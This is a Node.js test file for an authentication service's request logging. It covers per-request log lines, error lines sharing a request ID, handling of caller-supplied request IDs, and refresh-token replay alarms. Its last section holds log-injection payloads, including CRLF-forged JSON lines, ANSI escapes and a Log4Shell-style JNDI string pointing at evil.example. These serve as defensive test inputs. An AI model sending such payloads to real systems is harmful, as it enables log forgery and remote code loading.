/**
 * What the Worker writes: one JSON object a line, one line for each request and
 * one more for each error, tied together by the request's id; and nothing that
 * the request brought along.
 */
import assert from "node:assert/strict";
import { after, before, beforeEach, describe, test } from "node:test";
import { Client } from "../harness/client.mjs";
import { CHAOS, startLatchkey } from "../harness/latchkey.mjs";
import {
  LOGIN,
  LOGOUT,
  PASSWORD,
  PASSWORD_PATH,
  PROFILE,
  REFRESH,
  REGISTER,
  newEmail,
  register,
  signUp,
} from "./support/people.mjs";
import { wholeRequest } from "./support/requests.mjs";
import { ROUTES } from "./support/routes.mjs";
import { sendBytes } from "./support/socket.mjs";

/**
 * @import { Answer } from "../harness/client.mjs"
 * @import { Control } from "../package/test/faults.mjs"
 */

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

let latchkey;
before(async () => (latchkey = await startLatchkey({ entry: CHAOS })));
after(() => latchkey.dispose());
beforeEach(async () => {
  await latchkey.control({ reset: true });
  await latchkey.settled();
  latchkey.logs.length = 0;
});

/** The lines so far, each parsed: a line that is not one JSON object fails the test. */
function lines() {
  return latchkey.logs.map(({ level, message }) => {
    assert.ok(!/[\r\n\u2028\u2029\u0085]/.test(message), `more than one line: ${message}`);
    const line = JSON.parse(message);
    assert.equal(Object.getPrototypeOf(line), Object.prototype);
    // What the platform files under errors is what calls itself one.
    assert.equal(level === "error", line.level === "error", message);
    return line;
  });
}

/** Sends, and answers with the lines that this wrote. */
async function linesOf(send) {
  await latchkey.settled();
  latchkey.logs.length = 0;
  const answer = await send();
  await latchkey.settled();
  return { answer, written: lines() };
}

describe("a request", () => {
  test("is one line with its method, operation, status and id, whatever comes of it", async () => {
    const person = await signUp(latchkey);
    const anybody = new Client(latchkey);
    let registered;
    /** @type {[method: string, path: string, operation: string | null, status: number, send: () => Promise<Answer>][]} */
    const story = [
      [
        "POST",
        REGISTER,
        "AccountRegister",
        201,
        () => anybody.post(REGISTER, { json: { email: newEmail(), password: PASSWORD } }),
      ],
      [
        "POST",
        REGISTER,
        "AccountRegister",
        409,
        () => anybody.post(REGISTER, { json: { email: person.email, password: PASSWORD } }),
      ],
      ["POST", REGISTER, "AccountRegister", 422, () => anybody.post(REGISTER, { json: {} })],
      [
        "POST",
        LOGIN,
        "AccountLogin",
        401,
        () => anybody.post(LOGIN, { json: { username: person.email, password: "wrong password" } }),
      ],
      ["POST", LOGIN, "AccountLogin", 415, () => anybody.post(LOGIN, { body: "x" })],
      [
        "POST",
        LOGIN,
        "AccountLogin",
        403,
        () => anybody.post(LOGIN, { json: {}, headers: { Origin: "https://evil.example" } }),
      ],
      ["GET", PROFILE, "AccountProfile", 200, () => person.client.get(PROFILE)],
      ["GET", PROFILE, "AccountProfile", 401, () => anybody.get(PROFILE)],
      ["POST", REFRESH, "RefreshAccessToken", 204, () => person.client.post(REFRESH)],
      [
        "PATCH",
        PASSWORD_PATH,
        "AccountUpdatePwd",
        401,
        () =>
          person.client.patch(PASSWORD_PATH, {
            json: { currentPassword: "wrong password", newPassword: `${PASSWORD}!` },
          }),
      ],
      ["POST", LOGOUT, "AccountLogout", 204, () => person.client.post(LOGOUT)],
      ["DELETE", LOGIN, null, 405, () => anybody.delete(LOGIN)],
      ["GET", "/nowhere", null, 404, () => anybody.get("/nowhere")],
      ["GET", "/health", "Health", 200, () => anybody.get("/health")],
    ];
    // The right password or an authentic token identifies the user; no other user is named.
    const whose = (path, status) => {
      if (path === REGISTER && status === 201) return registered;
      const isNamed = (path === PROFILE && status === 200) || [REFRESH, PASSWORD_PATH, LOGOUT].includes(path);
      return isNamed ? person.id : null;
    };
    for (const [method, path, operation, status, send] of story) {
      const { answer, written } = await linesOf(send);
      const what = `${method} ${path} ${status}`;
      assert.equal(answer.status, status, what);
      registered ??= answer.json?.id;
      assert.equal(written.length, 1, `${what}: ${JSON.stringify(written)}`);
      const { "request.id": id, "user.id": user, ...line } = written[0];
      // A refusal of the request's head precedes the operation.
      const known = status === 403 ? null : operation;
      assert.deepEqual(
        line,
        {
          level: "info",
          event: "http.request",
          "http.method": method,
          "http.operation": known,
          "http.status": status,
          "client.request_id": null,
        },
        what,
      );
      assert.equal(user, whose(path, status), what);
      assert.match(id, UUID);
      assert.equal(id, answer.headers.get("X-Request-Id"));
      if (status >= 400) assert.equal(id, answer.json.requestId);
    }
  });

  test("has its operation's name in its line, whichever it is", async () => {
    for (const route of ROUTES) {
      const [path, init] = wholeRequest(route);
      const { answer, written } = await linesOf(() => new Client(latchkey).fetch(path, init));
      const found = written.map((line) => [line.event, line["http.operation"], line["http.status"]]);
      assert.deepEqual(found, [["http.request", route.operation, answer.status]]);
    }
  });

  test("that fails is one more line with the cause, under the same id", async () => {
    const person = await signUp(latchkey);
    const damage = () => latchkey.sql("UPDATE users SET password_hash = 'damaged' WHERE id = ?1", person.id);
    /** @type {[event: string, status: number, control: Partial<Control>, send: () => Promise<Answer>][]} */
    const cases = [
      ["http.failure", 503, { faults: [{ on: "d1", how: "fail" }] }, () => person.client.post(REFRESH)],
      [
        "http.failure",
        503,
        { faults: [{ on: "d1", how: "fail", message: "D1_ERROR: Exceeded maximum DB size." }] },
        () => person.client.get("/api/account/sessions"),
      ],
      ["kv.failure", 200, { faults: [{ on: "kv", how: "fail" }] }, () => person.client.get(PROFILE)],
      [
        "password.stored_hash_damaged",
        401,
        {},
        async () => {
          await damage();
          return new Client(latchkey).post(LOGIN, { json: { username: person.email, password: PASSWORD } });
        },
      ],
    ];
    for (const [event, status, control, send] of cases) {
      await latchkey.control({ reset: true, ...control });
      const { answer, written } = await linesOf(send);
      assert.equal(answer.status, status, event);
      const errors = written.filter(({ level }) => level === "error");
      assert.equal(written.length - errors.length, 1, event);
      assert.ok(errors.length >= 1 && errors.every((line) => line.event === event), JSON.stringify(written));
      for (const line of written) assert.equal(line["request.id"], answer.headers.get("X-Request-Id"));
      if (event === "http.failure")
        assert.deepEqual(
          [errors.length, typeof errors[0]["error.cause"], errors[0]["error.code"]],
          [1, "string", "unavailable"],
        );
    }
  });

  test("that lacks a table has one more line, which names the missing migrations, once an isolate", async () => {
    const { client } = await signUp(latchkey);
    await latchkey.control({ faults: [{ on: "d1", how: "fail", message: "D1_ERROR: no such table: users" }] });
    for (const events of [
      ["http.failure", "http.request", "database.migrations_missing"],
      ["http.failure", "http.request"],
    ]) {
      const { written } = await linesOf(() => client.get("/api/account/sessions"));
      assert.deepEqual(
        written.map(({ event }) => event),
        events,
      );
      assert.equal(new Set(written.map((line) => line["request.id"])).size, 1);
      for (const { migrations } of written.slice(2)) assert.equal(migrations[0], "0001_accounts_and_sessions");
    }
  });

  test("that replays a superseded refresh token is a line of its own: an alarm", async () => {
    const person = await signUp(latchkey);
    const thief = person.client.copy();
    await person.client.post(REFRESH);
    await person.client.post(REFRESH);
    const { answer, written } = await linesOf(() => thief.post(REFRESH));
    assert.equal(answer.status, 401);
    assert.equal(written.filter(({ event }) => event === "session.refresh_reused").length, 1);
  });
});

describe("the caller's X-Request-Id", () => {
  const send = (id) => linesOf(() => new Client(latchkey).get("/nowhere", { headers: { "X-Request-Id": id } }));

  test("is in the log line beside the request's own id when it is a UUID in its usual form", async () => {
    for (const id of [
      "0190f5a0-0000-7000-8000-000000000001",
      "0190F5A0-0000-7000-8000-00000000000A",
      "00000000-0000-0000-0000-000000000000",
    ]) {
      const { answer, written } = await send(id);
      const own = answer.headers.get("X-Request-Id");
      assert.match(own, UUID);
      assert.notEqual(own, id.toLowerCase());
      assert.equal(answer.json.requestId, own);
      assert.deepEqual([written[0]["request.id"], written[0]["client.request_id"]], [own, id.toLowerCase()]);
    }
  });

  test("is left out when it is anything else", async () => {
    const others = [
      "",
      "1",
      "zqx",
      "{0190f5a0-0000-7000-8000-000000000001}",
      "urn:uuid:0190f5a0-0000-7000-8000-000000000001",
      "0190f5a0000070008000000000000001",
      "0190f5a0-0000-7000-8000-000000000001 x",
      "0190f5a0-0000-7000-8000-00000000000g",
      "0190f5a0_0000_7000_8000_000000000001",
      '","level":"error","x":"',
      "x".repeat(8_000),
      "0190f5a0-0000-7000-8000-000000000001, 0190f5a0-0000-7000-8000-000000000002",
    ];
    const seen = new Set();
    for (const id of others) {
      const { answer, written } = await send(id);
      const own = answer.headers.get("X-Request-Id");
      assert.match(own, UUID, id);
      assert.ok(!seen.has(own));
      seen.add(own);
      assert.deepEqual([written[0]["request.id"], written[0]["client.request_id"]], [own, null]);
    }
  });

  test("never gets into the audit log: nobody files an event under another request", async () => {
    const person = await signUp(latchkey);
    const [{ request_id: known }] = await latchkey.sql(
      "SELECT request_id FROM audit_log WHERE user_id = ?1 AND event = 'logged_in'",
      person.id,
    );
    const headers = { "X-Request-Id": known };
    const wrong = await new Client(latchkey).post(LOGIN, {
      headers,
      json: { username: person.email, password: "wrong password" },
    });
    const loggedOut = await person.client.post(LOGOUT, { headers });
    await latchkey.settled();
    const rows = await latchkey.sql(
      "SELECT event, request_id FROM audit_log WHERE user_id = ?1 ORDER BY id",
      person.id,
    );
    const ids = Object.fromEntries(rows.map(({ event, request_id: id }) => [event, id]));
    assert.equal(ids.login_failed, wrong.headers.get("X-Request-Id"));
    assert.equal(ids.logged_out, loggedOut.headers.get("X-Request-Id"));
    assert.deepEqual(
      rows.filter(({ request_id: id }) => id === known).map(({ event }) => event),
      ["logged_in"],
    );
  });
});

describe("text of the request that would like to be a log line", () => {
  const FORGED = '{"level":"error","event":"zqx-forged"}';
  const TEXTS = [
    `zqx\r\n${FORGED}`,
    `zqx\n${FORGED}\n`,
    `zqx\u2028${FORGED}`,
    `zqx\u0085${FORGED}`,
    `zqx\x1b[2J\x1b[31m${FORGED}`,
    `zqx","level":"error","x":"`,
    `zqx\\u000a${FORGED}`,
    `zqx\b\b\b\b${FORGED}`,
    `zqx%0d%0a${FORGED}`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends.
    "zqx${jndi:ldap://evil.example}",
    "zqx\0",
  ];

  test("in a body, a path or a query does not get into the log", async () => {
    const person = await signUp(latchkey);
    latchkey.logs.length = 0;
    let requests = 0;
    const send = (sent) => {
      requests += 1;
      return sent;
    };
    for (const text of TEXTS) {
      await send(
        new Client(latchkey).post(REGISTER, { json: { email: text, password: text, name: text, [text]: text } }),
      );
      await send(new Client(latchkey).post(LOGIN, { form: { username: text, password: text } }));
      await send(new Client(latchkey).post(LOGIN, { json: { username: newEmail(), password: `${text}${PASSWORD}` } }));
      await send(person.client.patch(PROFILE, { json: { name: text } }));
      await send(person.client.patch(PASSWORD_PATH, { json: { currentPassword: text, newPassword: text } }));
      await send(person.client.delete(`/api/account/sessions/${encodeURIComponent(text)}`));
      await send(person.client.delete(`/api/account/sessions?scope=${encodeURIComponent(text)}`));
      await send(
        person.client.get(`/${encodeURIComponent(text)}?${encodeURIComponent(text)}=${encodeURIComponent(text)}`),
      );
    }
    await latchkey.settled();
    assert.equal(lines().length, requests);
    assert.doesNotMatch(JSON.stringify(lines()), /zqx|jndi/);
  });

  test("in a header does not get into the log", async () => {
    const visible = TEXTS.filter((text) => !/[\r\n\0\u2028]/.test(text));
    for (const text of visible) {
      for (const name of [
        "User-Agent",
        "Cookie",
        "Origin",
        "Referer",
        "X-Request-Id",
        "CF-Connecting-IP",
        "Content-Type",
        "Sec-Fetch-Site",
        "Accept-Language",
      ]) {
        const { statuses } = await sendBytes(latchkey, `POST ${LOGIN} HTTP/1.1`, {
          path: LOGIN,
          lines: [`${name}: ${text}`, "Content-Length: 2"],
          body: "{}",
        });
        assert.equal(statuses.length, 1);
        assert.ok(statuses[0] >= 400 && statuses[0] < 500, `${name}: ${statuses}`);
      }
    }
    assert.equal(lines().length, visible.length * 9);
    assert.doesNotMatch(JSON.stringify(lines()), /zqx|jndi/);
  });

  test("in a user agent that is kept stays in its field", async () => {
    const person = await register(latchkey);
    const agent = `zqx\x1b[31m ${FORGED}`;
    const body = JSON.stringify({ username: person.email, password: person.password });
    const { statuses, text } = await sendBytes(latchkey, `POST ${LOGIN} HTTP/1.1`, {
      path: LOGIN,
      lines: ["Content-Type: application/json", `User-Agent: ${agent}`, `Content-Length: ${body.length}`],
      body,
    });
    assert.deepEqual(statuses, [204]);
    assert.equal(text.match(/^set-cookie: /gim)?.length, 2);
    assert.doesNotMatch(JSON.stringify(lines()), /zqx/);
  });
});
